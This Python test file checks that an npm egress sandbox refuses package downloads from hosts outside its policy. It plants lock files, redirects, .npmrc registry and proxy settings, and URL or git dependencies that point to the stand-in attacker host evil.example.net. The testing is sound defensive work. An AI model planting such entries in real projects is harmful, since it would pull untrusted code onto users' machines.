"""Promise: Egress.
Attacker: a repository, or the registry that npm may reach. Means: a lock file that takes a package from another host; a
redirect of a tarball to another host; a .npmrc with another registry, another proxy, or none; a dependency by a URL or
by git.

Expected: refused, and the refusal names the host. Nothing is installed from there, and nothing leaves the machine.
"""
import contextlib
import http.server
import json
import threading

import pytest

from npm_registry import grant, integrity, packed

OTHER = "evil.example.net"
TINY = {"name": "tiny", "version": "1.0.0"}


class Redirect(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        self.send_response(302)
        self.send_header("Location", f"http://{OTHER}/tiny.tgz")
        self.send_header("Content-Length", "0")
        self.end_headers()

    def log_message(self, *_):
        pass


@pytest.fixture
def redirecting():
    """A listed host that sends npm elsewhere."""
    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), Redirect) as server:
        thread = threading.Thread(target=server.serve_forever)
        thread.start()
        yield f"127.0.0.1:{server.server_address[1]}"
        server.shutdown()
        thread.join()


@pytest.fixture(scope="session")
def tiny_registry(npm_registry):
    with contextlib.suppress(AssertionError):  # published by another test of this session
        npm_registry.publish(TINY)
    return npm_registry


def lock(resolved, digest=None):
    package = {"version": "1.0.0", "resolved": resolved, "integrity": digest or integrity(packed(TINY))}
    top = {"name": "top", "version": "1.0.0", "dependencies": {"tiny": "1.0.0"}}
    return json.dumps({"name": "top", "version": "1.0.0", "lockfileVersion": 3, "requires": True,
                       "packages": {"": top, "node_modules/tiny": package}})


def write(box, server, dependency="1.0.0", npmrc="", resolved=None, digest=None):
    box.file("root/package.json", json.dumps({"name": "top", "version": "1.0.0", "dependencies": {"tiny": dependency}}))
    box.file("root/.npmrc", f"registry={server.url}\nfetch-retries=0\n{npmrc}\n")
    if resolved:
        box.file("root/package-lock.json", lock(resolved, digest))


def fails(box, server, *argv, more=()):
    policy = grant(box, server)
    if more:
        document = json.loads(policy.read_text(encoding="utf-8"))
        document["grant"] = [{**one, "egress": [*one["egress"], *more]} for one in document["grant"]]
        policy.write_text(json.dumps(document), encoding="utf-8")
    options = [word for host in (server.host, *more) for word in ("--egress", host)]
    answer = box.run("npm", *argv, policy=policy, options=["--verbose", *options], timeout=60, deadline=90)
    assert answer.outcome == "exited" and answer["exit_code"] != 0, answer.document
    assert not (box.root / "node_modules/tiny").exists()
    return answer


def refusals(answer):
    found = [json.loads(line) for line in answer.err.splitlines()]
    return [(event["host"], event["reason"]) for event in found if event["event"] == "subproc.egress.refused"]


@pytest.mark.parametrize("scheme", ["http", "https"])
def test_lock_file_that_points_elsewhere_is_refused_and_named(user_box, tiny_registry, scheme):
    write(user_box, tiny_registry, resolved=f"{scheme}://{OTHER}/tiny/-/tiny-1.0.0.tgz")
    assert (OTHER, "not_listed") in refusals(fails(user_box, tiny_registry, "ci"))


def test_refusal_is_named_as_text_too(root_box, tiny_registry):
    write(root_box, tiny_registry, resolved=f"https://{OTHER}/tiny/-/tiny-1.0.0.tgz")
    answer = root_box.call(root_box.run_argv(["npm", "ci"], form="", policy=grant(root_box, tiny_registry),
                                             options=["--egress", tiny_registry.host]))
    assert f"subproc.egress.refused tool=npm host={OTHER} ".encode() in answer.err and answer.status != 0


def test_same_lock_file_with_the_registry_is_installed(user_box, tiny_registry):
    """So what is refused above is the host, and nothing else."""
    write(user_box, tiny_registry, resolved=f"{tiny_registry.url}tiny/-/tiny-1.0.0.tgz")
    answer = user_box.run("npm", "ci", policy=grant(user_box, tiny_registry), options=["--egress", tiny_registry.host], timeout=60)
    assert answer["exit_code"] == 0 and (user_box.root / "node_modules/tiny/package.json").exists()


def test_other_bytes_than_the_lock_file_has_are_refused(user_box, tiny_registry):
    write(user_box, tiny_registry, resolved=f"{tiny_registry.url}tiny/-/tiny-1.0.0.tgz", digest=integrity(b"other bytes"))
    assert b"EINTEGRITY" in fails(user_box, tiny_registry, "ci").stream("stderr")


def test_redirect_of_a_tarball_is_refused_and_named(user_box, tiny_registry, redirecting):
    write(user_box, tiny_registry, resolved=f"http://{redirecting}/tiny.tgz")
    answer = fails(user_box, tiny_registry, "ci", more=[redirecting])
    assert refusals(answer) == [(OTHER, "not_listed")]


@pytest.mark.parametrize("npmrc,refused", [
    ("registry=https://registry.npmjs.org/", {("registry.npmjs.org", "not_listed")}),
    (f"registry=http://{OTHER}/\nproxy=http://{OTHER}:8080\nhttps-proxy=http://{OTHER}:8080", {(OTHER, "not_listed")}),
])
def test_planted_settings_lead_nowhere_else(user_box, tiny_registry, npmrc, refused):
    """The registry of the policy is granted, and it is the only one that was asked for."""
    write(user_box, tiny_registry, npmrc=npmrc)
    user_box.file("root/.npmrc", npmrc + "\nfetch-retries=0\n")
    assert refused <= set(refusals(fails(user_box, tiny_registry, "install")))


@pytest.mark.parametrize("npmrc", ["noproxy=127.0.0.1,localhost"])
def test_planted_settings_cannot_go_around_the_proxy(user_box, tiny_registry, npmrc):
    """npm then connects by itself, to a loopback that is its own. If it uses the proxy nevertheless, that is as good."""
    write(user_box, tiny_registry, npmrc=npmrc)
    answer = user_box.run("npm", "install", policy=grant(user_box, tiny_registry), timeout=60, deadline=90,
                          options=["--verbose", "--egress", tiny_registry.host])
    assert ("127.0.0.1", "direct") in refusals(answer) or answer["egress"]["allowed"] > 0
    assert answer["exit_code"] == 0 or not (user_box.root / "node_modules/tiny").exists()


@pytest.mark.parametrize("dependency", [f"https://{OTHER}/tiny.tgz"])
def test_dependency_by_a_url_is_refused_and_named(user_box, tiny_registry, dependency):
    write(user_box, tiny_registry, dependency)
    assert (OTHER, "not_listed") in refusals(fails(user_box, tiny_registry, "install"))


@pytest.mark.parametrize("dependency", [f"git+https://{OTHER}/a.git", f"git+ssh://git@{OTHER}/a.git"])
def test_dependency_by_git_runs_no_git(user_box, tiny_registry, dependency):
    write(user_box, tiny_registry, dependency)
    answer = fails(user_box, tiny_registry, "install")
    assert b"git" in answer.stream("stderr").lower()
    assert not any(denial["path"].endswith("/git") for denial in answer["denied"] or [])


def test_dependency_of_the_repository_itself_needs_no_host(user_box, tiny_registry):
    user_box.own(user_box.directory("root/own"))
    user_box.file("root/own/package.json", json.dumps(TINY))
    write(user_box, tiny_registry, "file:./own")
    answer = user_box.run("npm", "install", policy=grant(user_box, tiny_registry), options=["--egress", tiny_registry.host], timeout=60)
    assert answer["exit_code"] == 0 and answer["egress"]["allowed"] == 0
    assert json.loads((user_box.root / "node_modules/tiny/package.json").read_text(encoding="utf-8")) == TINY


def test_without_a_jail_npm_follows_the_lock_file(user_box, tiny_registry, redirecting):
    """What the proxy prevents: plain npm asks whatever host the lock file has. Here it is one of this machine."""
    write(user_box, tiny_registry, resolved=f"http://{redirecting}/tiny.tgz")
    done = user_box.call(["npm", "ci", "--ignore-scripts", "--no-audit", "--no-fund"], deadline=120)
    assert OTHER.encode() in done.err  # it followed the redirect, and the name does not exist


